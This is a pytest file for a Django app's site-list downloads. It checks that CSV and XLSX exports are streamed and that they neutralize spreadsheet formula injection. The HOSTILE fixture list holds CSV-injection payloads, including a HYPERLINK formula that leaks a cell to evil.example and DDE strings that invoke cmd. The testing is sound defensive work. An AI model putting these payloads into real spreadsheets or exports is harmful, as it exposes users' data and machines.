"""Downloads: streamed, and no cell a spreadsheet would run as a formula (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from sqms.core import actions, exports
from sqms.core.choices import Channel
from sqms.test import World

pytestmark = pytest.mark.django_db

# Cells OWASP's CSV-injection guidance lists as dangerous: each starts with = + - @ tab or CR.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_neutralize_prefixes_only_text_that_starts_a_formula() -> None:
    assert [exports.neutralize(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    # numbers stay numbers, harmless text stays as it is, even with = inside
    assert exports.neutralize(-2) == -2
    assert exports.neutralize(-0.5) == -0.5
    assert exports.neutralize("a=b") == "a=b"
    assert exports.neutralize("'=x") == "'=x"  # already neutralized: not prefixed twice
    assert exports.neutralize("") == ""


def _hostile_sites(world: World) -> None:
    for i, name in enumerate(HOSTILE):
        actions.do_create_site(
            {"region": world.region_a, "code": f"H{i}", "name": name},
            acting_user=None,
            channel=Channel.CLI,
        )


def test_site_csv_export_is_streamed_and_neutralizes_hostile_names(
    world: World,
    client_for,  # type: ignore[no-untyped-def]
) -> None:
    _hostile_sites(world)
    response = client_for(world.qm).get(
        reverse("core:site_list"), {"export": "csv", "q": "H", "sort": "code"}
    )
    assert response.streaming  # written as the client reads, not built in memory
    assert response["Content-Disposition"].startswith('attachment; filename="sites-')
    data = response.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    names = {r[0]: r[1] for r in rows[1:]}
    assert [names[f"H{i}"] for i in range(len(HOSTILE))] == ["'" + v for v in HOSTILE]


def test_site_xlsx_export_stores_hostile_names_as_text_not_formulas(
    world: World,
    client_for,  # type: ignore[no-untyped-def]
) -> None:
    _hostile_sites(world)
    response = client_for(world.qm).get(
        reverse("core:site_list"), {"export": "xlsx", "q": "H", "sort": "code"}
    )
    assert response.streaming
    assert response["Content-Type"] == exports.XLSX_TYPE
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    formula = cells["H0"]
    assert formula.data_type == "s" and formula.value == HOSTILE[0]  # text, never a formula
    assert all(cells[f"H{i}"].data_type == "s" for i in range(len(HOSTILE)))


def test_csv_lines_quote_and_neutralize_like_a_spreadsheet_reads_them() -> None:
    text = "".join(exports.csv_lines(["a", "=b"], [[1, '=1,"2"'], [-3, "ok"]]))
    assert text == '\ufeffa,\'=b\r\n1,"\'=1,""2"""\r\n-3,ok\r\n'
    assert "".join(exports.csv_lines(["a"], [], bom=False)) == "a\r\n"
